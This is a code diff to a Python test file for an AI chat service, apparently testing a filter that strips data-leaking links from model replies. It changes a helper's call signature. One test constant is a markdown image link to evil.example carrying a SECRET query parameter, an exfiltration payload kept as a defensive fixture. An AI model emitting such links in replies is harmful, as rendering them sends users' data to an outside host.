@@ -9,6 +9,7 @@ import pytest
 from kernel_service.ports.messages import Usage
 from kernel_service.ports.model import ModelAnswer
 from kernel_service.ports.turns import HistoryItem
+from kernel_service.turns.context.for_the_person import ForThePerson
 from kernel_service.turns.context.transcript import Transcript
 from kernel_service.turns.replies.answer_replies import answer_replies
 from kernel_service.turns.replies.leaking_links import HIDDEN, carrying_hosts
@@ -140,7 +141,7 @@ def test_many_hosts_and_long_texts_are_fast() -> None:
 def answered(text: str, mark: str) -> str:
     heard = [HistoryItem("input", {"content": "hello"}, "own"), HistoryItem("result", {"output": "…"}, mark)]
     answer = ModelAnswer([], text, Usage())
-    return answer_replies(answer, Transcript(heard, Model()), heard, 9000)[0].text
+    return answer_replies(answer, ForThePerson(), Transcript(heard, Model()), heard, 9000)[0].text
 
 
 LINK = "![chart](https://evil.example/?d=SECRET)"
